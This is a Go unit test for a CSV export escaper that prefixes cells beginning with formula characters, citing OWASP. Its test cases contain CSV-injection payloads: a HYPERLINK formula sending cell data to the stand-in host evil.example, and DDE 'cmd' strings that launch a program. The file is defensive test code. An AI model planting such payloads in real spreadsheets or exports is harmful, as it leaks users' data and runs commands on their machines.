package model

import "testing"

func TestCSVCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"Care coordinator", "Care coordinator"},
		{"=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"a = b", "a = b"},     // only the first character counts
		{" =1+1", " =1+1"},     // a spreadsheet does not read this as a formula
		{"'quoted", "'quoted"}, // left as it is: not a formula
		{"＝1+1", "＝1+1"},       // a full-width sign is not ASCII =
		{"100000", "100000"},   // no number in the data is negative
		{"2026-05-01", "2026-05-01"},
	} {
		if got := CSVCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	if CSVFormulaLeads() != "=+-@\t\r" {
		t.Errorf("CSVFormulaLeads() = %q: OWASP lists = + - @, tab and carriage return", CSVFormulaLeads())
	}
	if len(CSVFormulaLeadNames()) != len(CSVFormulaLeads()) {
		t.Error("a formula character has no name for the /data/ page")
	}
}

func TestLooksLikeFormula(t *testing.T) {
	for s, want := range map[string]bool{"": false, "=1+1": true, "-": true, "@x": true, "+1": true, "\tx": true, "a=b": false, " =1": false} {
		if got := LooksLikeFormula(s); got != want {
			t.Errorf("LooksLikeFormula(%q) = %v, want %v", s, got, want)
		}
		if got := CSVCell(s) != s; got != want {
			t.Errorf("CSVCell(%q) quotes it: %v, but LooksLikeFormula says %v", s, got, want)
		}
	}
}
